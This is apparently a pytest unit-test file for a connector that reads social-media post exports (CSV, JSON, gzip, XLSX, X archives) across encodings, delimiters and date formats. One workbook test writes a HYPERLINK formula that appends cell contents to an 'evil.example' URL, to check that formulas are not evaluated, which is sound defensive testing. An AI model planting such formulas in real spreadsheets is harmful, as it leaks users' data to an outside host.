"""Files are read in whatever shape suites and spreadsheets give them."""

import gzip
import io
import json
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from firebreak.connectors.files import inspect, read_any
from firebreak.connectors.files.simulator import as_bytes

pytestmark = pytest.mark.unit
ROWS: list[dict[str, Any]] = [
    {
        "Id": f"p{n}",
        "Datum": f"2024-05-{n + 1:02d} 10:00",
        "Författare": "Åsa",
        "Text": f"Hej, åäö; nummer {n}\noch en rad till",
        "Gillar": n,
    }
    for n in range(12)
]
HANS = [
    {
        "编号": f"w{n}",
        "发布时间": f"2024年5月{n + 1}日 下午3:0{n}",
        "用户名": "小明",
        "微博内容": f"这个产品的质量真的不好，我要求退款 {n}",
        "转发数": "1.2万",
    }
    for n in range(9)
]
HANT = [
    {
        "編號": f"t{n}",
        "發布時間": f"2024/05/0{n + 1} 15:00",
        "暱稱": "阿明",
        "貼文內容": f"這個產品的品質真的不好，我要求退款 {n}",
        "按讚數": n,
    }
    for n in range(9)
]


def _write(folder: Path, data: bytes, name: str = "f") -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _fields(path: Path) -> set[str]:
    return {c["field"] for c in inspect(path)["columns"]} - {"extra"}


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "latin-1", "cp1252"]
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_any_encoding_and_delimiter_gives_the_same_posts(
    tmp_path: Path, encoding: str, delimiter: str
) -> None:
    posts = list(read_any(_write(tmp_path, as_bytes(ROWS, "csv", encoding=encoding, delimiter=delimiter))))
    assert [p.text for p in posts] == [row["Text"] for row in ROWS]
    assert [(p.id, p.author, p.likes) for p in posts] == [(f"p{n}", "Åsa", n) for n in range(12)]
    assert posts[0].time == 1714557600.0


@pytest.mark.parametrize(
    ("rows", "encoding"), [(HANS, "gb18030"), (HANS, "utf-8"), (HANT, "big5"), (HANT, "utf-16")]
)
def test_chinese_exports_are_told_apart_and_read(
    tmp_path: Path, rows: list[dict[str, Any]], encoding: str
) -> None:
    path = _write(tmp_path, as_bytes(rows, "csv", encoding=encoding))
    assert _fields(path) == {"id", "time", "author", "text", "reposts" if rows is HANS else "likes"}
    posts = list(read_any(path))
    assert [p.text for p in posts] == [list(row.values())[3] for row in rows]
    assert posts[0].time == 1714575600.0
    assert posts[1].reposts == (12000 if rows is HANS else -1)


@pytest.mark.parametrize("form", ["csv", "jsonl", "json", "csv.gz", "jsonl.gz", "json.gz"])
def test_every_format_gives_the_same_posts_packed_or_not(tmp_path: Path, form: str) -> None:
    posts = list(read_any(_write(tmp_path, as_bytes(ROWS, form))))
    assert [(p.id, p.text) for p in posts] == [(row["Id"], row["Text"]) for row in ROWS]


def test_lines_before_the_header_are_stepped_over(tmp_path: Path) -> None:
    preamble = 'Report:,"Acme, all"\r\nFrom:,2024-05-01\r\nTo:,2024-05-31\r\n\r\n'
    path = _write(tmp_path, as_bytes(ROWS, "csv", preamble=preamble))
    assert inspect(path)["mapping"]["header_row"] == 3
    assert len(list(read_any(path))) == 12


def test_a_file_without_a_header_is_read_by_its_content(tmp_path: Path) -> None:
    lines = "".join(
        f"56759{n:013d},2024-05-0{n + 1}T10:00:00Z,This is a longer text about Acme number {n}\n"
        for n in range(9)
    )
    path = _write(tmp_path, lines.encode())
    found = inspect(path)
    assert found["mapping"]["header_row"] is None
    assert {c["name"]: c["field"] for c in found["columns"]} == {"1": "id", "2": "time", "3": "text"}
    assert len(list(read_any(path))) == 9


def test_a_workbook_is_read_with_its_dates_and_without_its_formulas(tmp_path: Path) -> None:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet("Empty")
    sheet = book.add_worksheet("Posts")
    stamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    sheet.write_row(0, 0, ["Export of Acme"])
    sheet.write_row(2, 0, ["Post ID", "Published", "Author", "Message", "Reach", "Note"])
    for n in range(5):
        sheet.write_row(3 + n, 0, [f"x{n}", "", "ann", f"Words {n} about Acme", 1000 + n])
        sheet.write_datetime(3 + n, 1, datetime(2024, 5, 1 + n, 10, 30), stamp)  # noqa: DTZ001 - as spreadsheets have it
        sheet.write_formula(3 + n, 5, '=HYPERLINK("http://evil.example/"&A1)', value="seen")
    book.close()
    path = _write(tmp_path, out.getvalue(), "posts.xlsx")
    found = inspect(path)
    assert (found["mapping"]["format"], found["mapping"]["sheet"], found["mapping"]["header_row"]) == (
        "xlsx",
        "Posts",
        1,
    )
    posts = list(read_any(path))
    assert [(p.id, p.views, p.extra) for p in posts] == [
        (f"x{n}", 1000 + n, {"Note": "seen"}) for n in range(5)
    ]
    assert posts[0].time == 1714559400.0


def test_days_of_a_spreadsheet_are_read_as_times(tmp_path: Path) -> None:
    rows = [{"Date": 45413.5 + n, "Text": f"A text of some length, number {n}"} for n in range(6)]
    posts = list(read_any(_write(tmp_path, as_bytes(rows, "csv"))))
    assert posts[0].time == 1714564800.0


@pytest.mark.parametrize(
    ("written", "seconds"),
    [
        ("Tue May 31 17:46:55 +0800 2011", 1306835215.0),
        ("Tue, 31 May 2011 17:46:55 +0800", 1306835215.0),
        ("1306835215", 1306835215.0),
        ("1306835215000", 1306835215.0),
        ("2011-05-31T09:46:55.000Z", 1306835215.0),
        ("2011/05/31 09:46:55", 1306835215.0),
        ("31.05.2011 09:46:55", 1306835215.0),
        ("5/31/2011 9:46:55 AM", 1306835215.0),
        ("31 maj 2011 09:46:55", 1306835215.0),
        ("31 Mei 2011 09:46:55", 1306835215.0),
        ("May 31, 2011, 9:46:55 AM", 1306835215.0),
        ("2011年5月31日 9:46:55", 1306835215.0),
        ("20110531T094655Z", 1306835215.0),
        ("2011-05-31 09:46:55 UTC", 1306835215.0),
        ("2011-05-31 17:46:55 +0800", 1306835215.0),
    ],
)
def test_times_are_read_in_every_form(tmp_path: Path, written: str, seconds: float) -> None:
    rows = [{"id": f"a{n}", "created_at": written, "text": f"words {n}"} for n in range(5)]
    assert {p.time for p in read_any(_write(tmp_path, as_bytes(rows, "csv")))} == {seconds}


def test_month_and_day_are_told_by_the_whole_column(tmp_path: Path) -> None:
    american = [{"date": f"{5}/{n}/2024", "text": f"text {n}"} for n in range(1, 29)]
    path = _write(tmp_path, as_bytes(american, "csv"))
    assert inspect(path)["mapping"]["day_first"] is False
    close = [
        {"date": f"3/{n}/2024", "text": f"text {n}"} for n in range(1, 9)
    ]  # eight days running, or eight months
    assert inspect(_write(tmp_path, as_bytes(close, "csv")))["mapping"]["day_first"] is False
    open_question = [{"date": "3/4/2024", "text": "text"}]
    assert ("files.date_order_unsure", {"day_first": True}) in inspect(
        _write(tmp_path, as_bytes(open_question, "csv"))
    )["issues"]


def test_times_without_a_zone_are_read_in_the_brands(tmp_path: Path) -> None:
    path = _write(tmp_path, as_bytes(ROWS, "csv"))
    found = inspect(path, "x.csv", None, "Europe/Stockholm")
    assert found["mapping"]["zone"] == "Europe/Stockholm"
    assert ("files.zone_assumed", {"zone": "Europe/Stockholm"}) in found["issues"]
    assert found["preview"][0]["post"]["time"] == 1714557600.0 - 7200


def test_a_correction_is_what_counts(tmp_path: Path) -> None:
    path = _write(tmp_path, as_bytes(ROWS, "csv"))
    found = inspect(
        path,
        given={"columns": {"Gillar": "views", "Författare": ""}, "platform": "forum", "zone": "Asia/Taipei"},
    )
    post = found["preview"][0]["post"]
    assert (post.get("views"), post.get("author"), post["platform"]) == (0, None, "forum")
    assert [p.views for p in read_any(path, found["mapping"])] == list(range(12))


def test_nested_and_wrapped_json_is_flattened(tmp_path: Path) -> None:
    items = [
        {
            "id_str": f"9{n}",
            "created_at": "Tue May 31 17:46:55 +0800 2011",
            "full_text": f"t {n} &amp; u",
            "user": {"screen_name": "@bo", "followers_count": 7},
            "public_metrics": {"retweet_count": n},
            "entities": {"urls": [{"u": 1}]},
        }
        for n in range(4)
    ]
    for data in ({"meta": {"n": 4}, "data": items}, items):
        posts = list(read_any(_write(tmp_path, json.dumps(data, indent=1).encode())))
        assert [(p.id, p.text, p.author, p.followers, p.reposts) for p in posts] == [
            (f"9{n}", f"t {n} & u", "bo", 7, n) for n in range(4)
        ]


def test_an_archive_of_x_is_read_although_it_is_javascript(tmp_path: Path) -> None:
    body = "window.YTD.tweets.part0 = " + json.dumps(
        [{"id": "1", "created_at": "2024-05-01T00:00:00Z", "full_text": "hi there"}]
    )
    assert [p.text for p in read_any(_write(tmp_path, body.encode()))] == ["hi there"]


def test_ids_that_a_spreadsheet_rounded_are_not_used(tmp_path: Path) -> None:
    rows = [
        {"tweet_id": "5.67592E+17", "created_at": f"2024-05-01T00:00:0{n}Z", "text": f"text {n}"}
        for n in range(4)
    ]
    path = _write(tmp_path, as_bytes(rows, "csv"))
    assert ("files.ids_rounded", {"column": "tweet_id"}) in inspect(path)["issues"]
    posts = list(read_any(path))
    assert len({p.id for p in posts}) == 4
    assert [p.id for p in posts] == [p.id for p in read_any(path)]


def test_a_packed_file_is_known_by_its_content_not_its_name(tmp_path: Path) -> None:
    assert len(list(read_any(_write(tmp_path, gzip.compress(as_bytes(ROWS, "csv")), "looks_like.txt")))) == 12
